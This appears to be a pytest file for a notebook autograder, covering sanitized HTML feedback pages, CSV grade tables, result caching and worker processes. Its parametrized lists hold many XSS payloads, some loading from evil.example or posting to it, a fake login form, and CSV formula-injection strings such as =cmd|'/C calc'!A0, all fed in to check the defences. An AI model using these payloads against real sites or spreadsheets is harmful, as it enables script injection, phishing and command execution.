"""The table, the pages, the records, and the processes behind them."""

import csv
import errno
import io
import json
import re
import shutil
import subprocess
import sys
import textwrap
import threading
import time
import types

import grading_class
import nbformat
import psutil
import pytest
from conftest import ROOT
from page_checker import dangers

from grading import result_store, run
from grading.assignments.assignment import Task, load_assignment
from grading.intake import reading
from grading.intake.submissions import Submission, find_submissions
from grading.limits import Limits
from grading.rendering import notebook as rendering
from grading.reports import pages, report, rows, summary, table
from grading.workers import pool, worker

v4 = nbformat.v4
TASKS = (
    Task("t1", "Count <b>weights</b>", 2.0, "", ("a",)),
    Task("t2", "Train", 3.5, "", ("b",)),
    Task("t3", "Explain", 4.0, "", manual=True),
)
ASSIGNMENT = types.SimpleNamespace(
    name="hw1_x", title="Homework 1", tasks=TASKS, version="v1", notebook={"cells": []}
)


def result(first="right", second="wrong", **more):
    def judged(task, verdict):
        points = task.points if verdict == "right" else 0
        return {
            "grade_id": task.grade_id,
            "title": task.title,
            "points": points,
            "max_points": task.points,
            "verdict": verdict,
            "message": "" if verdict == "right" else f"the <i>{task.grade_id}</i> is off",
        }

    verdicts = zip(TASKS, (first, second, "manual"), strict=True)
    tasks = [judged(task, verdict) for task, verdict in verdicts]
    return {"tasks": tasks, "events": [], "notes": [], "seconds": 2.0, "page": "", **more}


def row(student="ana", found=None, due=None, **handed):
    submission = Submission(student, student, re.sub(r"\W", "_", student), ())
    given = reading.Handed(name="hw1.ipynb", **handed)
    return rows.make_row(submission, given, found, ASSIGNMENT, due)


# --------------------------------------------------------------------- the notebook

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://evil.example/pixel.png'>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<iframe src='//evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='x.swf'></object><embed src=x>",
    "<form action='//evil.example'><input name=a><button>Log in again</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='//evil.example/'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>table { display: none }</style>",
    "<div style='position:fixed;top:0' class='total full' id='points'>8 of 8</div>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\nscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a><a href='file:///etc/passwd'>x</a>",
    "</section></main><main><h1>Points</h1>",
    "</pre></div></div></section><script>alert(1)</script>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=1'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<x" * 3000,
    "<div>" * 3000,
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "[a](javascript:alert(1)) ![b](javascript:alert(1)) <javascript:alert(1)>",
    "[a]: javascript:alert(1)\n[a] `<script>` $<script>alert(1)</script>$ $$<img src=x onerror=1>$",
    "\x1b[31m<script>alert(1)</script>\x1b[0m \x00\x07",
]


@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
def test_nothing_of_a_student_can_do_harm(attack):
    data = {"text/plain": "x", "text/html": attack, "text/markdown": attack, "text/latex": attack}
    outputs = [
        v4.new_output("stream", text=attack),
        v4.new_output("stream", name="stderr", text=attack),
        v4.new_output(
            "error", ename=attack, evalue=attack, traceback=[attack, "\x1b[31m" + attack]
        ),
        v4.new_output("display_data", data={"application/javascript": "alert(1)"}),
        v4.new_output("display_data", data={"image/svg+xml": attack}),
        v4.new_output("display_data", data={"image/png": '"><script>alert(1)</script>'}),
        v4.new_output(
            "display_data",
            data={"image/png": "iVBORw0KGgo="},
            metadata={"image/png": {"width": "1 onerror=alert(1)", "alt": attack}},
        ),
    ]
    outputs += [v4.new_output("display_data", data={kind: data[kind]}) for kind in data]
    outputs += [v4.new_output("display_data", data={"text/html": attack}, metadata={"isolated": 1})]
    cells = [v4.new_markdown_cell(attack), v4.new_raw_cell(attack)]
    cells += [v4.new_code_cell(attack, execution_count=1, outputs=outputs)]
    cells[0]["attachments"] = {"a.png": {"image/png": '"><script>alert(1)</script>'}}
    notebook = v4.new_notebook(cells=cells)
    notebook.metadata["title"] = attack
    notebook.cells[2].metadata = {"tags": ["x onclick=alert(1)"], "alt": attack}
    assert dangers(rendering.render(notebook)) == []


def test_what_is_harmless_stays():
    cells = [
        v4.new_markdown_cell(
            "## A *title*\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[link](https://keras.io)\n\n"
            "```python\nx = 1\n```"
        ),
        v4.new_code_cell(
            "def f():\n    return 1",
            execution_count=3,
            outputs=[
                v4.new_output("stream", text="\x1b[31mred\x1b[0m a < b"),
                v4.new_output("display_data", data={"image/png": "iVBORw0KGgo="}),
            ],
        ),
    ]
    text = rendering.render(v4.new_notebook(cells=cells))
    for piece in (
        "<em>title</em>",
        "<td>2</td>",
        'href="https://keras.io"',
        'rel="noopener noreferrer nofollow"',
        'class="k">def<',
        "ansi-red-fg",
        "a &lt; b",
        "data:image/png;base64,iVBORw0KGgo=",
        "[3]:",
    ):
        assert piece in text, piece


def test_a_long_output_is_cut():
    output = v4.new_output("stream", text="x" * 500_000)
    text = rendering.render(v4.new_notebook(cells=[v4.new_code_cell("1", outputs=[output])]))
    assert len(text) < 60_000 and "460,000 characters left out" in text


def test_an_odd_notebook_is_survived():
    cells = [
        {"cell_type": "code", "source": ["a", "b"], "outputs": [{"output_type": "alien"}]},
        {"cell_type": "code", "source": "c", "outputs": [{"output_type": "display_data"}]},
        {"cell_type": "markdown", "source": "d"},
        {"cell_type": "unknown", "source": 5},
    ]
    assert dangers(rendering.render({"cells": cells})) == []


# -------------------------------------------------------------------- page and table


def test_a_students_page():
    found = row(found=result(page="<p>the notebook</p>", events=["cell 3 was stopped"]))
    text = pages.student_page(found, ASSIGNMENT)
    assert dangers(text, is_page=True) == []
    assert "2 of 5.5 points" in text and "up to 4 for written answers" in text
    assert "Count &lt;b&gt;weights&lt;/b&gt;" in text and "the &lt;i&gt;t2&lt;/i&gt; is off" in text
    assert text.index("What to improve") < text.index("<p>the notebook</p>")
    assert "cell 3 was stopped" in text
    policy = re.search(r'Content-Security-Policy" content="([^"]+)"', text)[1]
    assert "default-src 'none'" in policy and "script-src" not in policy
    assert "unsafe" not in policy and "http" not in policy


def test_every_verdict_has_words():
    verdicts = {"right", "wrong", "not answered", "error", "timeout", "memory", "died"}
    verdicts |= {"not reached", "manual"}
    assert verdicts == set(pages.VERDICTS)
    for verdict in verdicts - {"right", "manual"}:
        assert "<li>" in pages.student_page(row(found=result(verdict)), ASSIGNMENT)


def test_the_table():
    rows = [
        row("ana", result("right", "right")),
        row("=cmd|'/C calc'!A0", result("wrong", "wrong"), notes=["+1", 'a;b,"c"\nd']),
        row("\tTab", None),
        row("ben", worker.failure("could not be graded: it died")),
        row("cem", None, status="unreadable", problem="-x is empty"),
    ]
    data = table.table(rows, ASSIGNMENT)
    assert data.startswith(b"\xef\xbb\xbf") and data.count(b"\r\n") == 6
    read = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert len(read) == 5
    ana, attack, tab, ben, cem = read
    assert (ana["points"], ana["max"], ana["to be read"]) == ("5.5", "5.5", "4")
    assert (ana["t1 (of 2)"], ana["t2 (of 3.5)"], ana["t3 (of 4)"]) == ("2", "3.5", "")
    assert attack["student"].startswith("'=") and attack["notes"] == '\'+1; a;b,"c" d'
    assert tab["student"] == "' Tab" and (tab["points"], tab["status"]) == ("", "not graded yet")
    assert (ben["points"], ben["status"]) == ("", "could not be graded")
    assert (cem["points"], cem["status"]) == ("0", "unreadable") and cem["notes"].startswith("'-x")


@pytest.mark.parametrize(
    "text", ["=1", "+1", "-1", "@x", "\t=1", "\r=1", " =1", "\n=1", "＝1", "\u200b=1"]
)
def test_no_cell_is_a_formula(text):
    assert table.safe_cell(text).startswith("'")
    assert table.safe_cell("a" + text).startswith("a")


ATTACKS_ON_CELLS = [
    "ValueError: ;=1+cmd|' /C calc'!A0;",
    'a;"=1+1"',
    'a; "" @SUM(1)',
    "a,-1+1",
    "a\t+1",
    "a|＝1",
    "a;\u200b=1",
    "a;\n=1",
]


@pytest.mark.parametrize("text", ATTACKS_ON_CELLS)
@pytest.mark.parametrize("delimiter", ",;|\t")
def test_no_part_of_a_cell_is_a_formula_whatever_separates_cells(text, delimiter):
    rows = [row(text, found=result(events=[text]), notes=[text, "=1"])]
    data = table.table(rows, ASSIGNMENT).decode("utf-8-sig")
    for line in csv.reader(io.StringIO(data, newline=""), delimiter=delimiter):
        for cell in line:
            assert not re.match(r'[\s"\u200b]*[=+\-@＝]', cell), cell


def test_numbers_stay_numbers():
    data = table.table([row(found=result("right", "right"))], ASSIGNMENT).decode("utf-8-sig")
    assert ",5.5,5.5," in data


def test_late():
    assert row(found=result(), due=1000.0, when=900.0).is_late is False
    late = row(found=result(), due=1000.0, when=1000.0 + 86_400 + 3_660)
    assert pages.lateness(late) == "1 d 1 h 1 min" and late.points == 2
    assert "The points are not changed" in pages.student_page(late, ASSIGNMENT)
    assert pages.lateness(row(found=result(), late=True)) == "late, says the platform"


def test_the_page_says_where_the_time_comes_from():
    found = row(found=result(), due=1000.0, when=2000.0, clock="the time of the <file>")
    assert "(so says the time of the &lt;file&gt;)." in pages.student_page(found, ASSIGNMENT)
    assert "Handed in" not in pages.student_page(row(found=result()), ASSIGNMENT)


def test_the_class_at_a_glance(tmp_path):
    rows = [
        row(f"s{number}", result("right", "right" if number < 3 else "timeout"))
        for number in range(9)
    ]
    rows += [row("<script>alert(1)</script>", None, status="unreadable", problem="it is <empty>")]
    about = {"isolation": ["No network."], "aside": [], "due": None}
    report.write(tmp_path, rows, ASSIGNMENT, about)
    read = json.loads((tmp_path / "summary.json").read_text(encoding="utf-8"))
    assert read["status"] == {"graded": 9, "unreadable": 1} and read["median"] == 2
    assert read["tasks"][1] == {
        "grade_id": "t2", "title": "Train", "points": 3.5, "right": 3, "judged": 9,
        "otherwise": {"timeout": 6},
    }  # fmt: skip
    assert sum(each["students"] for each in read["distribution"]) == 9
    text = (tmp_path / "summary.html").read_text(encoding="utf-8")
    assert (
        "<script" not in text and "33 %" in text and text.index("Train") < text.index("Count &lt;b")
    )
    for link in re.findall(r'href="([^"]+)"', text):
        assert (tmp_path / link).is_file(), link
    assert "http://" not in text and "https://" not in text
    # A student who is gone leaves no page behind.
    report.write(tmp_path, rows[:2], ASSIGNMENT, about)
    assert len(list((tmp_path / "feedback").glob("*"))) == 2


def test_a_class_without_any_grade(tmp_path):
    rows = [row("ana", None)]
    facts = summary.facts(rows, ASSIGNMENT)
    assert facts["mean"] is None
    assert "not graded yet" in summary.page(facts, rows, ASSIGNMENT, {})


# ------------------------------------------------------------------------- records


def test_a_record_is_valid_for_what_it_was_made_from():
    handed, limits = reading.Handed(digest="d", name="n"), Limits()
    first = result_store.key(handed, ASSIGNMENT, limits, True)
    assert first == result_store.key(handed, ASSIGNMENT, Limits(), True)
    changed = types.SimpleNamespace(version="v2")
    others = [
        result_store.key(reading.Handed(digest="e", name="n"), ASSIGNMENT, limits, True),
        result_store.key(reading.Handed(digest="d", name="m"), ASSIGNMENT, limits, True),
        result_store.key(handed, changed, limits, True),
        result_store.key(handed, ASSIGNMENT, Limits(cell_s=7), True),
        result_store.key(handed, ASSIGNMENT, limits, False),
    ]
    assert len({first, *others}) == 6


@pytest.fixture
def checkout(tmp_path):
    """A copy of the code that records depend on."""
    for name in ("grading", "utils"):
        kept = shutil.ignore_patterns("__pycache__")
        shutil.copytree(ROOT / name, tmp_path / name, ignore=kept)
    for name in ("utils/processes/cleanup.py", "data/registry.toml"):
        (tmp_path / name).parent.mkdir()
        shutil.copy(ROOT / name, tmp_path / name)
    return tmp_path


def test_a_record_follows_the_helpers_that_submissions_call(checkout):
    before = result_store.engine_version(checkout)
    assert before == result_store.engine_version(), "of the same content"
    counts = [
        "utils/homework/__init__.py",
        "utils/openimages/__init__.py",
        "utils/processes/cleanup.py",
    ]
    counts += [
        "grading/execution/engine.py",
        "grading/reports/safe_html.py",
        "grading/sandbox/inside/prefork_server.py",
    ]
    for name in counts:
        text = (checkout / name).read_text(encoding="utf-8")
        (checkout / name).write_text(text + "\n# repaired\n", encoding="utf-8")
        assert result_store.engine_version(checkout) != before, name
        (checkout / name).write_text(text, encoding="utf-8")
        assert result_store.engine_version(checkout) == before, "the time alone changes nothing"
    for name in ("grading/reports/pages.py", "grading/README.md"):
        (checkout / name).write_text("# anything", encoding="utf-8")
    (checkout / "utils" / "__pycache__").mkdir()
    (checkout / "utils" / "__pycache__" / "homework.pyc").write_bytes(b"x")
    assert result_store.engine_version(checkout) == before


def test_a_record_follows_libraries_settings_and_data(tmp_path, monkeypatch):
    for name in ("COURSE_PROFILE", "KERAS_BACKEND", "COURSE_DATA_MIRROR"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("COURSE_DATA_DIR", str(tmp_path))
    handed, limits = reading.Handed(digest="d", name="n"), Limits()

    def key():
        return result_store.key(handed, ASSIGNMENT, limits, True)

    seen = [key()]
    (tmp_path / "cifar10").mkdir()
    (tmp_path / "cifar10" / ".cifar10_subset.npz.lock").touch()
    (tmp_path / "photos.npz").touch()
    assert key() == seen[0], "these are none of the course's data files"
    (tmp_path / "cifar10" / "cifar10_subset.npz").touch()
    seen.append(key())
    monkeypatch.setenv("COURSE_DATA_MIRROR", str(tmp_path))
    assert key() == seen[1], "found twice is found"
    monkeypatch.setenv("COURSE_PROFILE", "quick")
    seen.append(key())
    monkeypatch.setenv("KERAS_BACKEND", "jax")
    seen.append(key())
    monkeypatch.setattr(result_store.importlib.metadata, "version", lambda name: "0.0")
    seen.append(key())
    assert len(set(seen)) == 5


def test_damaged_records_count_as_missing(tmp_path):
    store = result_store.Store(tmp_path)
    store.write("ana", "key", result())
    assert store.read("ana")["result"] == result()
    for broken in ("", "{", "[]", '{"format": 1}', '{"format": 0, "result": {}}'):
        (tmp_path / "records" / "ana.json").write_text(broken, encoding="utf-8")
        assert store.read("ana") is None
    assert store.read("nobody") is None


def test_only_one_run_has_a_claim(tmp_path):
    first, second = result_store.Store(tmp_path), result_store.Store(tmp_path)
    claim = first.claim("ana")
    assert claim is not None and second.claim("ana") is None
    claim.release()
    assert second.claim("ana") is not None


def test_a_reader_never_sees_half_a_file(tmp_path):
    path = tmp_path / "file"
    result_store.write_whole(path, "a" * 10**6)
    seen, stop = set(), threading.Event()

    def read():
        while not stop.is_set():
            seen.add(len(set(path.read_text())) * 10**7 + path.stat().st_size)

    thread = threading.Thread(target=read)
    thread.start()
    for letter in "bcdefgh":
        result_store.write_whole(path, letter * 10**6)
    stop.set()
    thread.join()
    assert seen == {11 * 10**6} and [each.name for each in tmp_path.iterdir()] == ["file"]


class OneByOne:
    """Stands in for what grades: gives each job the next of some results."""

    def __init__(self, *results):
        self.results = list(results)
        self.answers = []

    def capacity(self):
        return 1

    def submit(self, name, job):
        self.answers.append((name, self.results.pop(0)))

    def collect(self, seconds):
        return self.answers.pop(0)


def test_who_needs_a_look_is_listed_with_the_reasons():
    rows = [
        row("ana", result()),
        row("ben", result(), look=["Two versions <of> the same moment."]),
        row("cem", None, status="no notebook", problem="There is no notebook."),
        row("dua", result(look=["It ended the kernel twice."])),
    ]
    facts = summary.facts(rows, ASSIGNMENT)
    _, _, part = summary.page(facts, rows, ASSIGNMENT, {}).partition("For a person to look at")
    listed, _, _ = part.partition("Everybody")
    assert "ana" not in listed and "Two versions &lt;of&gt; the same moment." in listed
    assert "There is no notebook." in listed and "It ended the kernel twice." in listed
    students = summary.for_programs(facts, rows, {})["students"]
    assert [len(each["look"]) for each in students] == [0, 1, 1, 1]


def test_what_the_machine_could_not_read_costs_no_points():
    told = "the folder hw1 could not be read (Permission denied)"
    found = row("ana", None, status="could not be graded", problem=told)
    assert found.points is None and found.look == [told] and found.notes == [told]
    cells = next(csv.DictReader(io.StringIO(table.table([found], ASSIGNMENT).decode("utf-8-sig"))))
    assert cells["points"] == "" and cells["status"] == "could not be graded"
    assert "0 of" not in pages.student_page(found, ASSIGNMENT)


def test_a_result_without_its_page_is_not_settled():
    assert run.is_settled(result()) and not run.is_settled(result(page_lost=True))


def test_the_front_carries_the_notebook_as_text(tmp_path):
    path = grading_class.write_assignment(tmp_path)
    grading_class.put(tmp_path / "in" / "ana" / "hw.ipynb", json.loads(path.read_text()))
    found = find_submissions(tmp_path / "in")[0]
    group = run.ClassRun(found, load_assignment(path), Limits(), True, tmp_path / "out")
    group.read()
    job, key = group.job("ana")
    group.reader.close()
    assert json.loads(job["notebook"])["nbformat"] == 4 and key
    group.submissions["ana"].sources[0].path.joinpath("hw.ipynb").unlink()
    assert group.job("ana") == (None, None) and group.rows()[0].status == "no notebook"


def test_what_the_grader_could_not_do_is_tried_again_and_shown_until_then(tmp_path):
    path = grading_class.write_assignment(tmp_path)
    grading_class.put(tmp_path / "in" / "ana" / "hw.ipynb", json.loads(path.read_text()))
    found = find_submissions(tmp_path / "in")[0]
    good = result(page="<p>")

    def one_run(*results):
        group = run.ClassRun(found, load_assignment(path), Limits(), True, tmp_path / "out")
        group.read()
        slugs = group.to_do()
        group.grade(slugs, OneByOne(*results), lambda slug: None, False)
        return slugs, [each.status for each in group.rows()]

    full = worker.failure("could not be graded: OSError: No space left on device")
    assert one_run(full) == (["ana"], ["could not be graded"])
    group = run.ClassRun(found, load_assignment(path), Limits(), True, tmp_path / "out")
    group.read()
    assert [each.status for each in group.rows()] == ["could not be graded"], "it is still shown"
    assert one_run(good) == (["ana"], ["graded"])
    assert one_run() == ([], ["graded"])


# ------------------------------------------------------------------------ processes

JOB = {
    "assignment_name": "hw1",
    "assignment_text": "{}",
    "notebook": "{}",
    "files": {"a/b.txt": b"x", "a": b"y"},
    "limits": {"notebook_s": 0.5},
    "judge_seconds": 0,
    "unsafe": False,
    "hidden": [],
    "cold": False,
}
ENGINE = """
import json, os, sys, time
for line in sys.stdin:
    folder = line.strip()
    BODY
"""
GOOD = """
    result = {"points": 1, "events": [], "pid": os.getpid()}
    open(folder + "/result.json", "w").write(json.dumps(result)); print("judged", flush=True)
    open(folder + "/page.html", "w").write("<p>"); print("done", flush=True)
"""
FIRST_TIME = """
    import pathlib
    mark = pathlib.Path(MARK)
    if not mark.exists():
        mark.touch()
        os.kill(os.getpid(), 9)
"""


@pytest.fixture
def slot_with(tmp_path, monkeypatch):
    """Makes slots with a stand-in for the grading process."""
    monkeypatch.setattr(pool, "GRACE_SECONDS", 1)
    monkeypatch.setattr(pool, "PAGE_SECONDS", 1)
    slots = []

    def make(body):
        script = tmp_path / "engine.py"
        body = textwrap.indent(textwrap.dedent(body).strip(), "    ")
        script.write_text(ENGINE.replace("    BODY", body))
        slots.append(pool.Slot([sys.executable, str(script)]))
        return slots[-1]

    yield make
    for slot in slots:
        slot.close()


def test_as_many_at_a_time_as_memory_holds_at_worst(monkeypatch):
    from utils import runtime

    monkeypatch.setattr(runtime, "cores", lambda: 8)
    for gigabytes, jobs in ((2, 1), (8, 1), (12, 1), (12.5, 2), (64, 8)):
        memory = types.SimpleNamespace(available=gigabytes * 2**30)
        monkeypatch.setattr(pool.psutil, "virtual_memory", lambda memory=memory: memory)
        assert pool.default_jobs(100, 3000) == jobs, gigabytes


def test_one_process_grades_many(slot_with):
    slot = slot_with(GOOD)
    first, second = slot.grade(JOB), slot.grade(JOB)
    assert first["points"] == 1 and first["page"] == "<p>" and first["pid"] == second["pid"]
    slot.close()
    assert not psutil.pid_exists(first["pid"])


@pytest.mark.skipif(sys.platform == "win32", reason="sends a signal")
def test_a_process_that_dies_gets_a_second_chance(slot_with, tmp_path):
    slot = slot_with(FIRST_TIME.replace("MARK", repr(str(tmp_path / "mark"))) + GOOD)
    assert slot.grade(JOB)["points"] == 1


@pytest.mark.skipif(sys.platform == "win32", reason="sends a signal")
def test_a_process_that_always_dies_is_reported(slot_with):
    slot = slot_with("print('it hurts', file=sys.stderr, flush=True)\nos.kill(os.getpid(), 11)")
    found = slot.grade(JOB)
    assert found["problem"].startswith("could not be graded")
    assert "SIGSEGV" in found["problem"] and "it hurts" in found["problem"]


def test_a_process_that_hangs_is_ended(slot_with):
    slot = slot_with("import subprocess\nsubprocess.Popen([sys.executable, '-c', 'import time; "
                     "time.sleep(77)'])\ntime.sleep(77)")  # fmt: skip
    started = time.monotonic()
    found = slot.grade(JOB)
    assert "no answer" in found["problem"] and time.monotonic() - started < 30
    me = psutil.Process()
    left = [each for each in me.children(recursive=True) if "time.sleep(77)" in str(each.cmdline())]
    assert left == []


def test_a_page_that_cannot_be_made_costs_no_points(slot_with):
    slot = slot_with(GOOD.split('    open(folder + "/page')[0] + "    time.sleep(77)")
    found = slot.grade(JOB)
    assert found["points"] == 1 and found["page"] == ""
    assert found["page_lost"] and "could not be shown" in found["events"][0]


def test_nobody_waits_any_more(tmp_path):
    """The grading process ends with the one that it works for, however that ended."""
    process = subprocess.Popen(
        [sys.executable, "-m", "grading.workers.worker"],
        cwd=ROOT,
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
    )
    process.stdin.close()
    assert process.wait(30) == 0


def test_a_job_that_makes_no_sense_is_a_result(tmp_path):
    (tmp_path / worker.JOB).write_text("{}")
    found = worker.Grader().grade(tmp_path)
    assert found["problem"].startswith("could not be graded: KeyError")


def test_files_that_cannot_be_written_are_told(tmp_path):
    far = "../" * 30 + "up"
    names = ["a" * 300, "x\0y", "/abs", far, "con", "c:\\x", "b\udcff", "é/\n"]
    worker.write_job(tmp_path, {**JOB, "files": {**JOB["files"], **dict.fromkeys(names, b"x")}})
    job = json.loads((tmp_path / worker.JOB).read_text())
    assert (tmp_path / "files" / "a" / "b.txt").read_bytes() == b"x" and len(job["notes"]) == 5
    written = {each.name for each in tmp_path.rglob("*") if each.is_file()}
    assert {"b.txt", "con", "c:\\x", "\n"} <= written
    assert not list(tmp_path.parent.rglob("up")) and job["place"] == ""


def test_files_above_the_notebooks_folder_stay_above_it(tmp_path):
    names = ["b.csv", "sub/c.csv", "../data/a.csv", "../../d.csv"]
    worker.write_job(tmp_path, {**JOB, "files": dict.fromkeys(names, b"x")})
    place = tmp_path / "files" / json.loads((tmp_path / worker.JOB).read_text())["place"]
    assert all((place / name).read_bytes() == b"x" for name in names)
    written = [path for path in tmp_path.rglob("*.csv")]
    assert len(written) == 4 and all(tmp_path / "files" in path.parents for path in written)


def test_a_full_disk_is_not_the_fault_of_a_name(tmp_path, monkeypatch):
    def full(self, data):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(worker.Path, "write_bytes", full)
    with pytest.raises(OSError, match="No space left"):
        worker.write_job(tmp_path, JOB)


# -------------------------------------------------------------------- command line


def command(*words):
    return subprocess.run(
        [sys.executable, "-m", "grading", *map(str, words)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        encoding="utf-8",
    )


def test_wrong_command_lines(tmp_path):
    path = grading_class.write_assignment(tmp_path)
    empty = tmp_path / "empty"
    empty.mkdir()
    one = tmp_path / "one"
    (one / "ana").mkdir(parents=True)
    out = tmp_path / "out"
    cases = [
        ((one, "--homework", 99, "--out", out), "no homework 99"),
        ((tmp_path / "nowhere", "--homework", path, "--out", out), "no folder"),
        ((empty, "--homework", path, "--out", out), "no submissions"),
        ((one, "--homework", path, "--out", one / "out"), "inside of the submissions"),
        ((one, "--homework", path, "--out", out, "--due", "soon"), "2026-11-20T23:59"),
        (
            (one, "--homework", path, "--out", out, "--unsafe", "--only", "anna"),
            "Did you mean: ana",
        ),
        ((one, "--homework", path, "--out", out, "--jobs", 0), "at least 1"),
        ((one, "--homework", path, "--out", out, "--memory", "-5"), "more than 0"),
    ]
    for words, expected in cases:
        done = command(*words)
        assert done.returncode == 2 and expected in done.stderr, (words, done.stderr)
        assert "Traceback" not in done.stderr
    assert not list(one.rglob("*.csv"))


def test_without_dask_the_message_says_what_to_install(monkeypatch):
    from grading.workers import cluster

    monkeypatch.setitem(sys.modules, "distributed", None)
    with pytest.raises(cluster.Unavailable, match="pip install distributed"):
        cluster.Cluster("local:2", True)
